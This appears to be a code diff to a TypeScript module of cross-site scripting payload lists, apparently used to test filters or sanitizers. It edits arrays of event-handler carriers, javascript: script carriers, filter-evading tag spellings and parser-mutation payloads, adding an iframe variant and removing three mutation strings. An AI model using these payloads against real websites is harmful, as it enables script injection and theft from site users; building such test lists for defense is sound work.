@@ -86,7 +86,10 @@ export const CALLS: readonly string[] = [
 export const CODED_CALLS: readonly string[] = ['&#120;ss(ID)', '&#x78;ss(ID)', '&#120ss(ID)', 'xss&lpar;ID&rpar;']
 
 export const CARRIERS: readonly string[] = ['<img src=x onerror="CODE">', '<svg onload="CODE">']
-export const SCRIPT_CARRIERS: readonly string[] = ['<script nonce=x>CODE</script>', '<a href="javascript:CODE">x</a>']
+export const SCRIPT_CARRIERS: readonly string[] = [
+  '<script nonce=x>CODE</script>',
+  '<iframe src="javascript:CODE"></iframe>',
+]
 
 /** Tags that a filter by pattern misses. */
 export const SPELLINGS: readonly string[] = [
@@ -101,7 +104,7 @@ export const SPELLINGS: readonly string[] = [
   '<svg onload = CODE >',
   '<svg x=">" onload=CODE>',
   "<IMG SRC=x ONERROR='CODE'>",
-  '<img/src=x/onerror=CODE>',
+  '<img/src="x"/onerror=CODE>',
   '<img src=x onerror=CODE //',
   '<img src=x:x onerror=CODE>',
   '<p/=/><svg onload=CODE>',
@@ -190,11 +193,8 @@ export const MUTATIONS: readonly string[] = [
   '<textarea><p title="</textarea><img src=x onerror=CODE>">',
   '<svg></p><style><a id="</style><img src=x onerror=CODE>">',
   '<svg><p><style><g title="</style><img src=x onerror=CODE>">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>',
-  '<math><mtext><table><mglyph><style><math><img src=x onerror=CODE>',
   '<table><td><svg><desc><img src=x onerror=CODE>',
   '<a title="`<img src=x onerror=CODE>`"><img alt="x`" src=x onerror=CODE>',
-  '<p id=x><svg><title><style><img src=x onerror=CODE></style></title></svg>',
 ]
 
 /** For fields that take nothing but paths, or emails. */
